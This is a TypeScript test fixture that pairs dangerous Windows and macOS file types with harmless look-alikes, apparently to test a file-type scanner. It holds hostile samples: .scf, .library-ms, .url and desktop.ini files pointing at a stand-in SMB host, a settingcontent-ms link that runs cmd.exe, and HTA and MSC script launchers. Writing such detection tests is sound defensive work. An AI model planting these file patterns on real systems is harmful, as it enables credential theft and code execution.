import { zip } from '../writers/zip.ts'
import { twins } from './twins.ts'

const zipped = (name: string, data: string) => () =>
  zip([
    { name: `project/${name}`, data },
    { name: 'project/readme.md', data: '# A' },
  ])
const library = (url: string) =>
  `<?xml version="1.0"?><libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library"><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>${url}</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>`

// biome-ignore format: one case, one line
export const deskTwins = twins([
  [['a.iqy', 'editor.desktop'], 'a query that Excel sends', 'WEB\n1\nhttp://203.0.113.7/a\n', '[Desktop Entry]\nType=Application\nName=Editor\nExec=editor %F\n'],
  ['iqy.zip', 'a query that Excel sends, in a zip', zipped('a.iqy', 'WEB\n1\nhttp://203.0.113.7/a\n'), zipped('a.iqy.md', 'WEB\n1\nhttp://203.0.113.7/a\n')],
  [['a.library-ms', 'library.xml'], 'a library on a share', library('\\\\203.0.113.7\\s'), library('\\\\203.0.113.7\\s')],
  ['library.zip', 'a library on a share, in a zip', zipped('a.library-ms', library('\\\\203.0.113.7\\s')), zipped('a.library-ms', 'notes about libraries')],
  [['a.searchConnector-ms', 'search.xml'], 'a search on a share', '<searchConnectorDescription xmlns="http://schemas.microsoft.com/windows/2009/searchConnector"/>', '<searchConnectorDescription/>'],
  ['setting.zip', 'a settings file that runs a program, in a zip', zipped('a.settingcontent-ms', '<PCSettings><SearchableContent><ApplicationInformation><DeepLink>%windir%\\system32\\cmd.exe /c calc</DeepLink></ApplicationInformation></SearchableContent></PCSettings>'), zipped('a.settings', '<PCSettings><DeepLink>x</DeepLink></PCSettings>')],
  ['hta.zip', 'an application of HTML, in a zip', zipped('a.hta', '<html><hta:application id="a"/><script>new ActiveXObject("WScript.Shell")</script></html>'), zipped('a.html', '<html><script>console.log(1)</script></html>')],
  ['wsf.zip', 'a script of Windows, in a zip', zipped('a.wsf', '<job><script language="VBScript">MsgBox 1</script></job>'), zipped('a.vbs', 'MsgBox 1\n')],
  ['scf.zip', 'a command of the Explorer, in a zip', zipped('a.scf', '[Shell]\nCommand=2\nIconFile=\\\\203.0.113.7\\s\\a.ico\n'), zipped('a.scf', 'structural data of a molecule')],
  ['url.zip', 'a shortcut to a share, in a zip', zipped('a.url', '[InternetShortcut]\r\nURL=file://203.0.113.7/s/a.vbs\r\n'), zipped('a.url', '[InternetShortcut]\r\nURL=https://example.org/\r\nIconFile=C:\\Windows\\System32\\url.dll\r\nIconIndex=0\r\n')],
  ['icon.zip', 'a shortcut with an icon on a share, in a zip', zipped('a.url', '[InternetShortcut]\r\nURL=https://example.org/\r\nIconFile=\\\\203.0.113.7\\s\\a.ico\r\n'), zipped('desktop.ini', '[.ShellClassInfo]\r\nIconResource=C:\\Windows\\System32\\shell32.dll,4\r\n')],
  ['folder.zip', 'a folder with an icon on a share, in a zip', zipped('desktop.ini', '[.ShellClassInfo]\r\nIconResource=\\\\203.0.113.7\\s\\a.ico\r\n'), zipped('desktop.ini', '[.ShellClassInfo]\r\nLocalizedResourceName=Music\r\n')],
  ['a.msc', 'a console file with script', '<?xml version="1.0"?><MMC_ConsoleFile ConsoleVersion="3.0"><StringTables><String ID="1">res://apds.dll/redirect.html?target=javascript:eval(1)</String></StringTables></MMC_ConsoleFile>', '<?xml version="1.0"?><MMC_ConsoleFile ConsoleVersion="3.0"><StringTables/></MMC_ConsoleFile>'],
  ['a.inetloc', 'a place of macOS that is a program', '<plist version="1.0"><dict><key>URL</key><string>file:///System/Applications/Calculator.app</string></dict></plist>', '<plist version="1.0"><dict><key>URL</key><string>https://example.org/</string></dict></plist>'],
  [['a.hta', 'settings.reg'], 'an application of HTML', '<html><script>1</script></html>', 'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\A]\r\n"b"="c"\r\n'],
  [['a.scf', 'autorun.inf'], 'a command of the Explorer', '[Shell]\nCommand=2\n', '[autorun]\r\nopen=setup.exe\r\nicon=setup.exe,0\r\n'],
  [['a.website', 'server.rdp'], 'a pinned site', '[InternetShortcut]\nURL=file://203.0.113.7/a\n', 'full address:s:host.example.org\nprompt for credentials:i:1\n'],
])
